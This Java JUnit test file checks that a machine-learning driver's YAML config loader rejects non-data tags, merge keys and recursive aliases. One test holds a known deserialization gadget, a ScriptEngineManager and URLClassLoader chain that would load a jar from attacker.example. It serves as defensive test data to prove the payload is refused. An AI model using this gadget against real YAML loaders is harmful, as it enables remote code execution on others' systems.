package io.treegrad.driver.config;

import static io.treegrad.driver.config.ConfigErrorsTest.FASHION;
import static io.treegrad.driver.config.ConfigErrorsTest.problems;
import static io.treegrad.driver.config.ConfigLoaderTest.CWD;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Test;

/** A config is data: no tag can make the loader instantiate a class or run code. */
class SafeLoadingTest {
    static final String PLAIN = "a config holds only mappings, lists, strings, numbers and booleans";

    /** Counts constructions: a loader that instantiated tagged classes would make this non-zero. */
    public static final class Canary {
        static int made;

        public Canary() {
            made++;
        }
    }

    @Test
    void aJavaClassTagIsRefusedAndNothingIsConstructed() {
        Canary.made = 0;
        assertEquals(List.of("configs/x.yaml line 1: tag !!io.treegrad.driver.config.SafeLoadingTest$Canary is not"
                        + " allowed (column 7); " + PLAIN),
                problems("name: !!io.treegrad.driver.config.SafeLoadingTest$Canary {}\n" + FASHION.replace(
                        "name: fashion\n", "")));
        assertEquals(0, Canary.made);
    }

    @Test
    void theFileTagIsRefused() {
        assertEquals(List.of("configs/x.yaml line 3: tag !!java.io.File is not allowed (column 30); " + PLAIN),
                problems(FASHION.replace("path: data/train-images.gz", "path: !!java.io.File data/train-images.gz")));
    }

    @Test
    void theScriptEngineManagerGadgetIsRefused() {
        String gadget = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://attacker.example/x.jar\"]]]]";
        assertEquals(List.of("configs/x.yaml line 1: tag !!javax.script.ScriptEngineManager is not allowed (column 7); "
                        + PLAIN),
                problems("name: " + gadget + "\n" + FASHION.replace("name: fashion\n", "")));
    }

    @Test
    void otherTagsThatAreNotPlainDataAreRefusedWithTheirKey() {
        assertEquals(List.of("configs/x.yaml line 1: name: tag !run is not allowed; " + PLAIN,
                        "configs/x.yaml line 10: loss.type: tag !!binary is not allowed; " + PLAIN,
                        "configs/x.yaml line 12: training.epochs: tag !!set is not allowed; " + PLAIN),
                problems(FASHION.replace("name: fashion", "name: !run fashion")
                        .replace("{type: cross_entropy}", "{type: !!binary Y3Jvc3NfZW50cm9weQ==}")
                        .replace("epochs: 5", "epochs: !!set {5}")));
    }

    @Test
    void aTaggedOverrideIsRefused() {
        assertEquals(List.of("--set output.dir=!!java.io.File /tmp: tag !!java.io.File is not allowed (column 1); "
                        + PLAIN),
                problems(FASHION, "output.dir=!!java.io.File /tmp"));
        assertEquals(List.of("--set output.dir=!local /tmp: tag !local is not allowed; " + PLAIN),
                problems(FASHION, "output.dir=!local /tmp"));
    }

    @Test
    void mergeKeysAreRefused() {
        assertEquals(List.of("configs/x.yaml line 12: training.<<: merge keys (<<) are not supported; write the keys"
                        + " out"),
                problems(FASHION.replace("  epochs: 5\n", "  <<: {epochs: 5}\n")));
    }

    @Test
    void standardTagsAnchorsAndAliasesArePlainData() {
        ExperimentConfig c = ConfigLoader.parse(FASHION.replace("lr: 0.001", "lr: &lr !!float 0.001")
                .replace("{type: cross_entropy}", "{type: !!str cross_entropy, l2: *lr}"), "x.yaml", List.of(), CWD);
        assertEquals(0.001, c.optimizer().lr());
        assertEquals(0.001, c.loss().l2());
    }

    @Test
    void aRecursiveAliasIsReportedNotFollowedForever() {
        assertEquals(List.of("configs/x.yaml line 6: model.layers[0]: expected a layer like relu or {linear: 256},"
                        + " got a list"),
                problems(FASHION.replace("layers: [{linear: 256}, relu, {linear: 10}]", "layers: &l [*l]")));
    }
}
